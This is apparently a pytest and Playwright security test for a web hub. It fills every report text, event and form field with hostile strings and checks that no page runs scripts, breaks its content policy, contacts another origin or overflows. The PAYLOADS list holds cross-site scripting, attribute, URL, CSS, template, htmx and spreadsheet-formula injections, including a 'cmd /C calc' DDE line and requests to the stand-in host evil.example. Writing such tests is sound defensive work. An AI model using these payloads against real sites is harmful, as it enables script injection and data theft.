"""What strangers and operators write is shown as text on every page of a real browser, whatever it would like to be.

Each payload stands in every text of a report and of its events, and in every field of the forms. A page fails that
runs it, breaks the content policy, asks another origin, writes to the console, or becomes wider than its window.
"""

from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page
from tests.build import incoming, incoming_event, record, record_all_events, report_document
from tests.servers.browser import NewPage, overflow

from felhom_hub.base.instants import utc_now
from felhom_hub.configs.save import Entered, create_config
from felhom_hub.configs.settings import Settings
from felhom_hub.customers.details import Details
from felhom_hub.operators.audit import Actor
from felhom_hub.telemetry.address import app_path
from felhom_hub.telemetry.summarise import summarise

PAYLOADS = (
    # HTML
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "</textarea></title></style></script><script>window.ran=1</script>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<base href=//evil.example><form action=//evil.example><input name=_csrf>",
    "<!--<script>window.ran=1//-->",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    # attributes
    '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1',
    "' onclick='window.ran=1' x='",
    "` onload=window.ran=1 `",
    # addresses
    "javascript:window.ran=1",
    "data:text/html,<script>parent.ran=1</script>",
    "//evil.example/x.js",
    "https://evil.example/?q=<b>",
    # styles
    "</style><style>body{background:url(//evil.example)}",
    "x;background:url(//evil.example/a);",
    # templates and scripts of the front end
    "{{ request.operator.csrf_token }}{% debug %}",
    "${window.ran=1}#{window.ran=1}",
    "\u2028\u2029'-window.ran=1-'",
    "hx-on:load=window.ran=1 hx-get=//evil.example",
    # formulas
    '=HYPERLINK("//evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # text that pretends to be another one, and text without end
    "\u202egnp.exe\u202c\u2066a\u2069\u200b\u0007",
    "x" * 10_000,
)  # fmt: skip
KEPT = {"customer_id", "timestamp", "last_backup_at", "last_db_dump_at", "started_at", "first_seen", "last_seen"}
# What sorts a thing must stay, or it would not be shown at all.
SORTING = {"status", "state", "severity", "role", "health", "fingerprint"}
WATCH = "addEventListener('securitypolicyviolation', (event) => { window.breach = event.violatedDirective; })"

pytestmark = pytest.mark.browser


def with_texts(value: Any, text: str, kept: set[str]) -> Any:
    """The document with `text` in the place of every other text."""
    if isinstance(value, dict):
        return {name: each if name in kept else with_texts(each, text, kept) for name, each in value.items()}
    if isinstance(value, list):
        return [with_texts(each, text, kept) for each in value]
    return text if isinstance(value, str) else value


def whole_report() -> dict[str, Any]:
    """A report with a text in each place that the contract knows."""
    issue = {"severity": "error", "message": "m", "fingerprint": "f", "count": 3, "container_name": "c"}
    app = {**report_document()["app_telemetry"][0], "top_issues": [issue]}
    return report_document(
        health={"status": "fail", "issues": ["i", {"message": "i"}], "warnings": ["w"]},
        system={"hostname": "h", "os": "o", "kernel": "k", "cpu_percent": 97, "memory_percent": 50},
        storage=[
            {"name": "n", "path": "p", "device": "d", "fstype": "f", "role": "data", "state": "ok", "percent": 97}
        ],
        containers=[{"name": "n", "stack": "s", "image": "i", "state": "restarting", "health": "unhealthy"}],
        stacks=[{"name": "s", "display_name": "d", "state": "running", "version": "v"}],
        app_telemetry=[app],
    )


def store(number: int, text: str) -> list[str]:
    """Two customers whose boxes say nothing but `text`, one of them managed; their ids."""
    now, ids = utc_now(), [f"shown-{number}", f"odd-{number}"]
    for customer_id, kept in zip(ids, (KEPT | SORTING, KEPT), strict=True):
        document = with_texts(whole_report(), text, kept)
        del document["customer_id"], document["timestamp"]
        record([incoming(customer_id, received_at=now, **document)])
        record_all_events([
            incoming_event(customer_id, received_at=now, message=text, details_json=f'{{"a": "{len(text)}"}}')
        ])  # fmt: skip
    line = "".join(letter for letter in text if letter.isprintable())
    details = Details(line[:200], "a.hu", "a@a.hu", town=line[:100], phone=line[:50], note=line[:4000])
    entered = Entered(details, Settings(overrides=f"# {line[:500]}\n"))
    create_config(f"managed-{number}", entered, now=now, by=Actor(line[:20], line[:20]))
    return [*ids, f"managed-{number}"]


def look(page: Page, path: str) -> dict[str, Any]:
    """What is wrong with a page; nothing where it only shows texts."""
    page.goto(path)
    found = page.evaluate("({ ran: window.ran, breach: window.breach })")
    found["wider"] = overflow(page) or None
    return {f"{path[:60]}: {what}": value for what, value in found.items() if value is not None}


def test_every_page_shows_hostile_texts_as_texts(new_page: NewPage) -> None:
    ids = [each for number, text in enumerate(PAYLOADS) for each in store(number, text)]
    summarise(utc_now())
    page = new_page()
    page.context.add_init_script(WATCH)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    paths = ["/", "/configs", "/apps", "/audit", "/configuration", "/setup"]
    paths += [f"/customers/{each}" for each in ids]
    paths += [f"/configs/managed-{number}/edit" for number in range(len(PAYLOADS))]
    paths += [app_path(text[:200].strip()) for text in PAYLOADS]
    paths += [f"/search?q={quote(text[:300])}" for text in PAYLOADS]
    paths += [f"/?q={quote(PAYLOADS[number])}" for number in range(4)]

    problems: dict[str, Any] = {}
    for path in paths:
        problems |= look(page, path)

    assert problems == {}


def test_every_field_of_the_form_shows_them_again_as_texts(new_page: NewPage) -> None:
    page = new_page(width=390)
    page.context.add_init_script(WATCH)
    problems: dict[str, Any] = {}
    for text in PAYLOADS:
        page.goto("/configs/new")
        page.locator("#legacy summary").click()
        # As if no script had looked at them before they were sent.
        page.evaluate(
            """(text) => document.querySelectorAll("main input:not([type=hidden]), main textarea").forEach(
            (field) => { field.removeAttribute("maxlength"); field.value = text; })""",
            text,
        )
        page.get_by_role("button", name="Save customer").click()
        page.get_by_text("Not saved").wait_for()
        found = page.evaluate("({ ran: window.ran, breach: window.breach })")
        problems |= {f"{text[:20]}: {what}": value for what, value in found.items() if value is not None}
        problems |= {f"{text[:20]}: wider": overflow(page)} if overflow(page) else {}
        kept = page.locator("#f-note").input_value()
        if kept != text:
            problems[f"{text[:20]}: kept"] = kept[:50]

    assert problems == {}
